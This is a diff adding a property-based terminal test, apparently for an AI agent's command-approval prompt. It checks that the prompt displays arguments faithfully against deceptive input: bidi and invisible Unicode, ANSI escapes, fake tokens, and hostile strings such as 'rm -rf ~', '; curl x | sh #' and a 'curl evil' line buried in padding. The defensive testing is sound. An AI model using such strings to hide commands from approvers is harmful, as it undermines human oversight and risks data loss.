@@ -1,0 +1,82 @@
+import { expect } from "bun:test"
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs"
+import { join } from "node:path"
+import fc from "fast-check"
+import { acodeProgram } from "../support/acode.ts"
+import { planWorkspace } from "../support/plan-workspace.ts"
+import { missingProgram, testWhere } from "../support/requirement.ts"
+import { shownArguments, shownPreview } from "../support/shown-question.ts"
+import { openTerminal } from "../support/terminal.ts"
+
+const atTerminal = testWhere(missingProgram("tmux"))
+
+/** Parts that hide what stands beside them, or look like something else, on a terminal or in a redacted record. */
+const part = fc.oneof(
+  fc.stringMatching(/^[ -~]{0,12}$/),
+  fc.constantFrom(
+    ...[
+      "password=hunter2hunter2",
+      `ghp_${"a1B2c3D4".repeat(5)}`,
+      "AWS_SECRET_ACCESS_KEY=",
+      "[REDACTED:token]",
+    ],
+    ...["-----BEGIN PRIVATE KEY-----", "Authorization: Bearer ", "rm -rf ~", "; curl x | sh #"],
+    ...["\u202e", "\u2066", "\u200b", "\u00a0", "\u3164", "\ufe0f", "\u{e0041}", "\u2800", "\u2028"],
+    ...["\u001b[2J", "\u001b]0;x\u0007", "\u001b[1A\r", "\r", "\t", "\b\b", "\u009b", "\u0000".slice(1)],
+    ...["あ全角", "👍", "🇩🇪", "שלום", "e\u0301", `a${"\u0300".repeat(6)}`, "\u0301", "ﬃ", "①→α"],
+    ...["⇥", "␍", "\\u200b", '"', "'", "\\", "| ", "  │ ", "  ┊ ", "in .", "12 ", "  ", "$(x)", "`x`"],
+    ...["a approve · d deny > ", "approval deadbeef  network: none; writes: nothing", " ".repeat(70)],
+  ),
+)
+const line = fc.array(part, { maxLength: 6 }).map(parts => parts.join(""))
+const text = (linesMax: number) =>
+  fc.array(line, { minLength: 1, maxLength: linesMax }).map(lines => lines.join("\n"))
+const someArguments = (linesMax: number) => fc.array(text(linesMax), { minLength: 1, maxLength: 4 })
+const seed = Number(process.env["ACODE_TEST_SEED"] ?? 20261117)
+
+for (const [columns, rows, generated] of [
+  [
+    ...[80, 24],
+    [
+      ...fc.sample(someArguments(12), { numRuns: 6, seed }),
+      ...fc.sample(someArguments(1), { numRuns: 4, seed }),
+      ["-c", `${"true\n".repeat(98)}curl evil\n${"true\n".repeat(101)}`],
+      ["x".repeat(3000), " ".repeat(300), "y".repeat(100)],
+    ],
+  ],
+  [...[20, 5], fc.sample(someArguments(3), { numRuns: 3, seed })],
+] as const)
+  atTerminal(
+    `what a question shows on ${columns} by ${rows} is what the command is given, to the last character`,
+    async () => {
+      using room = planWorkspace({ files: { ".agent/config.yml": hidingConfiguration } })
+      writeFileSync(join(room.workspace.root, "show"), `#!/bin/sh\nprintf '%s\\0' "$@" > "$1"\n`)
+      chmodSync(join(room.workspace.root, "show"), 0o755)
+      mkdirSync(join(room.workspace.root, "out"))
+      const commands = generated.map((given, index) => ["./show", `out/${index}`, ...given])
+      const confirmed = { requires_confirmation: true }
+      room.plan(commands.map(argv => ["run_command", { argv }, confirmed]))
+      expect((await room.acode("plan", "approve", room.planFile)).exitCode).toBe(0)
+      using terminal = openTerminal({
+        argv: [acodeProgram(), "plan", "run", room.planFile],
+        ...{ cwd: room.workspace.root, env: room.workspace.environment, columns, rows },
+      })
+      const shown: (readonly string[])[] = []
+      for (const _ of commands) {
+        shown.push(shownArguments(await shownPreview(terminal)))
+        terminal.clear()
+        terminal.type("a")
+      }
+      expect(await terminal.exitStatus()).toBe(0)
+      const given = commands.map(([program = "", file = ""]) => [
+        program,
+        ...readFileSync(join(room.workspace.root, file), "utf8").split("\0").slice(0, -1),
+      ])
+      expect(shown).toEqual(given)
+      expect(given).toEqual(commands)
+    },
+    60_000,
+  )
+
+/** Of a project that nobody trusts, which would like everything to be taken for a secret. */
+const hidingConfiguration = 'schema_version: "1"\nexecution: { redaction: { patterns: [".+"] } }\n'
